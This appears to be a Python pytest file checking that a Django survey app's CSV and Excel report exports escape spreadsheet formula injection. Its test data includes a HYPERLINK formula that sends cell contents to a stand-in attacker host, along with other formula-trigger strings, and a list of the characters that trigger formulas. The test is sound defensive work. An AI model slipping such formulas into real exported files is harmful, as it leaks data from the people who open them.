"""Spreadsheets of a report with a survey's most tempting names: each cell that a program would compute is a text."""

import csv
import io
from collections.abc import Iterator
from zipfile import ZipFile

import numpy as np
import pytest
from django.test import Client
from openpyxl import load_workbook

from accounts.models import Person
from mining.parameters import Parameters
from privacy.records import DISGUISED
from privacy.simulation.disguise import disguise
from reports.pages import named_pictures
from runs.models import Run
from tests.intake import asked
from tests.kept_rows import kept
from tests.mining.disclosure.random_surveys import Study
from tests.wake_ups import broker

__all__ = ["broker"]

pytestmark = [pytest.mark.django_db, pytest.mark.page]
FORMULA = '=HYPERLINK("http://attacker.example/"&A1,"see")'
STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
CHOICES = [{"name": "@SUM(A1)", "label": {"en": FORMULA}}, {"name": "-5+2", "label": {"en": "+1"}}]
YES_NO = [{"name": "no", "label": {"en": "-no"}}, {"name": "yes", "label": {"en": FORMULA}}]
ASKS = asked.written(
    {"kind": "plain", "questions": [{"name": "+where", "text": {"en": FORMULA}, "choices": CHOICES}]},
    {
        "kind": "unrelated-question",
        "keep": "0.9",
        "questions": [
            {"name": name, "text": {"en": f"@{name}"}, "choices": YES_NO} for name in ("-theft", "-late")
        ],
    },
    title={"en": FORMULA},
    least=20,
)


@pytest.fixture
def number(owner: Person, reviewer: Person) -> int:
    """Of a report: half of 600 people did both, so that there are rules."""

    def make() -> int:
        study, n = Study(owner, reviewer, ASKS), 600
        answers = np.arange(n, dtype=np.uint16) % 2
        true = np.stack([answers // 2 + (np.arange(n, dtype=np.uint16) // 300), answers, answers])
        group = np.full(n, DISGUISED, np.uint8)
        study.seal(group, disguise(ASKS, group, true.astype(np.uint16), np.random.default_rng(1)))
        run = study.mine(Parameters(0.05, 0.2, absences=True))
        study.publish(run)
        assert Run.objects.get().rule_count
        return int(run.pk)

    return kept(("tempting names",), make, lambda number: number, is_computed=True)


@pytest.fixture
def client(reading: Client) -> Client:
    return reading


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def computed(text: str) -> list[str]:
    """The cells of a CSV file that a spreadsheet program would take for formulas."""
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    return [cell for cell in cells if cell.startswith(STARTS) and not is_number(cell)]


def texts(client: Client, number: int) -> Iterator[tuple[str, str]]:
    with ZipFile(io.BytesIO(client.get(f"/app/reports/{number}/files/csv").content)) as files:
        yield from ((name, files.read(name).decode()) for name in files.namelist() if name.endswith(".csv"))
    for name in named_pictures.ERRORS:
        answer = client.get(f"/app/reports/{number}/pictures/{name}.csv")
        if answer.status_code == 200:
            yield f"picture {name}", answer.content.decode()


def test_no_cell_of_a_reports_files_is_computed(client: Client, number: int) -> None:
    found = dict(texts(client, number))
    assert {"questions.csv", "shares.csv", "groups.csv", "rules.csv", "picture error-keep"} <= set(found)
    assert {name: computed(text) for name, text in found.items() if computed(text)} == {}
    assert any(f"'{FORMULA[:10]}" in text for text in found.values())


def test_no_cell_of_the_workbook_is_computed_or_a_link(client: Client, number: int) -> None:
    data = client.get(f"/app/reports/{number}/files/excel").content
    book = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [cell.value for cell in cells if cell.data_type == "f" or cell.hyperlink] == []
    assert any(str(cell.value).startswith(FORMULA) for cell in cells)
